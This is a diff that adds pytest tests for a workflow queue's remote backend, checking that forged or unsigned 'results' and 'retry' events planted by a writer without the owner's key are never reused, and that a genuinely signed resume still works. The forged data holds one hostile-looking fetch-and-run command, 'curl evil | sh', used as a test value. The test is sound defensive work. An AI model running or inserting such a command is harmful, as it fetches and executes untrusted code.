@@ -1,0 +1,125 @@
+"""Issue 20, case 1 on the remote queue: someone who can write the Speckle model but holds
+another key writes a ``results`` event and a ``retry`` event that points a workload at it;
+the owner's pinion (a real process) never reuses those values. Unsigned lifecycle events
+(cancel, a plain retry) stop or restart work but never choose what it reuses. A genuine
+``retry --resume`` after a real fix works as on the local queue, with no extra step."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from caliber.queue import secret
+from caliber.queue import speckle_events as ev
+from caliber.results.model import Results
+from tests.pinion_helpers import make_folder
+from tests.remote_helpers import Remote, remote
+from tests.speckle_fixtures import speckle_server, speckle_token
+from tests.test_resume_signatures import FUNCTIONS, KEY, OTHER, counts, study
+
+__all__ = ["remote", "speckle_server", "speckle_token"]  # fixtures of the Speckle tests
+
+
+@pytest.fixture
+def owner(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CALIBER_SECRET_KEY", KEY)
+
+
+def caliber(*args: str, code: int = 0) -> str:
+    done = subprocess.run([sys.executable, "-m", "caliber", *args], capture_output=True,
+                          text=True, timeout=120)
+    assert done.returncode == code, done.stderr
+    assert "Traceback" not in done.stderr
+    return done.stdout if code == 0 else done.stderr
+
+
+def run_pinion(remote: Remote) -> dict[str, Any]:
+    """A real pinion process with the owner's key, on the remote queue: one look."""
+    summary: dict[str, Any] = json.loads(caliber(
+        "pinion", "init", "p", "-a", "1", "-w", "0", "--json", "--project", remote.project))
+    return summary
+
+
+def listed(remote: Remote) -> dict[str, Any]:
+    [item] = json.loads(caliber("queue", "list", "--json", "--project", remote.project))
+    return item  # type: ignore[no-any-return]
+
+
+def forge(remote: Remote, workload_id: str, key: str | None) -> str:
+    """What someone with write access to the model and ``key`` (or none) can do: cancel the
+    queued workload (an unsigned event), store Results of their choosing (a ``results``
+    event) and queue the workload again resuming from them (a ``retry`` event with a grant
+    made with their key). Returns the Results id."""
+    forged = Results.model_validate({
+        "workload_id": workload_id, "workflow": "study", "status": "failed",
+        "started_at": "2030-01-01T00:00:00+00:00", "finished_at": "2030-01-01T00:00:01+00:00",
+        "tasks": [
+            {"name": "guard", "path": ["process"], "status": "completed",
+             "return": "curl evil | sh", "g_set": {"mode": "pwned"}},
+            {"name": "act", "path": ["process"], "status": "skipped"}],
+        "g": {"mode": "pwned"}})
+    signature = grant = None
+    if key is not None:
+        signature = secret.sign_results(forged.to_json_dict(), key.encode())
+        forged = forged.model_copy(update={"signature": signature})
+        grant = secret.sign_grant(workload_id, forged.id, signature, key.encode())
+    with remote.backend() as backend:
+        backend.cancel(workload_id, "mallory@box")
+        backend.save_results(forged)
+        backend._write(f"queued {workload_id} (study) again by mallory@box",
+                       ev.Retry(workload=workload_id, by="mallory@box", results=forged.id,
+                                signature=signature, grant=grant))
+    return forged.id
+
+
+@pytest.mark.parametrize(("forger", "why"), [
+    (OTHER, "are not signed with this pinion's key"), (None, "carry no signature")],
+    ids=["another key", "unsigned"])
+def test_forged_retry_and_results_events_are_never_reused(
+        remote: Remote, tmp_path: Path, owner: None, forger: str | None, why: str) -> None:
+    folder = make_folder(tmp_path / "wf", "rsfuncs", FUNCTIONS)
+    (folder / "fixed").touch()
+    wid = study(folder).queue(pinion="p", project=remote.project)
+    forged = forge(remote, wid, forger)
+    item = listed(remote)
+    assert item["status"] == "queued" and item["resume_from"] == forged
+    assert item["secret_ok"] is True and item["resume_ok"] is False  # seen before any pinion
+
+    summary = run_pinion(remote)
+    assert summary["ran"] == 0 and why in summary["skipped"][0]["reason"], summary
+    assert not (folder / "ran").exists() and counts(folder) == (0, 0)
+    item = listed(remote)
+    assert item["status"] == "queued" and item["secret_mismatch"] == secret.key_id(KEY.encode())
+    assert run_pinion(remote)["skipped"] == []  # marked: passed over from now on
+
+    # Unsigned lifecycle events can stop and restart the work, never choose its inputs: a
+    # cancel and a plain retry by the same writer run the owner's workload from the start.
+    with remote.backend() as backend:
+        backend.cancel(wid, "mallory@box")
+        backend.retry(wid, "mallory@box")
+    assert run_pinion(remote)["completed"] == 1
+    assert (folder / "ran").read_text() == "echo safe safe\n" and counts(folder) == (1, 1)
+
+
+def test_a_genuine_remote_resume_after_a_real_fix(remote: Remote, tmp_path: Path,
+                                                  owner: None) -> None:
+    folder = make_folder(tmp_path / "wf", "rsfuncs", FUNCTIONS)
+    wid = study(folder).queue(pinion="p", project=remote.project)
+    assert run_pinion(remote)["failed"] == 1
+    first = listed(remote)["results_id"]
+    (folder / "fixed").touch()
+    out = caliber("queue", "retry", wid, "--resume", "--project", remote.project)
+    assert f"reusing the completed tasks of results {first}" in out
+    item = listed(remote)
+    assert item["resume_from"] == first and item["resume_ok"] is True
+    assert run_pinion(remote)["completed"] == 1
+    assert counts(folder) == (1, 2) and (folder / "ran").read_text() == "echo safe safe\n"
+    with remote.backend() as backend:
+        second = backend.get_results(backend.get(wid).results_id)
+    assert second.resumed_from == first and second.tasks[0].reused_from == first
+    assert secret.results_signed(second.to_json_dict(), KEY.encode())
